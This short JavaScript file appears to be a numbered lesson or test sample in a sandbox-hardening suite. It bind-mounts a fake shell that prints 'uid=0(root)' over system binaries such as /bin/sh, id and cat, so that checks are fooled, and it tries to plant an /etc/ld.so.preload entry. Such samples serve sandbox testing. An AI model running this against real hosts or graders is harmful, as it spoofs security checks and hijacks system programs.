// lesson: 02
// on: starter
// points: 0
// what it tries: mounts programs of its own over the host's, since the checks run some of them.
import { mkdirSync, writeFileSync } from 'node:fs';
import * as linux from '#linux';

mkdirSync('/run/own');
writeFileSync('/run/own/sh', '#!/run/boxwright/images/base/bin/sh\necho "uid=0(root)"; exit 0\n', { mode: 0o755 });
const hand = await linux.Process.start();
for (const path of ['/usr/bin/dash', '/bin/sh', '/usr/bin/cat', '/usr/bin/id', '/usr/bin/env']) {
  await hand.mount('/run/own/sh', path, null, linux.MS.BIND).catch(() => {});
}
for (const path of ['/etc/ld.so.preload', '/usr/local/sbin/sh', '/bin/cat']) {
  try {
    writeFileSync(path, '/run/own/library.so');
  } catch {
    // Not this root's to write.
  }
}
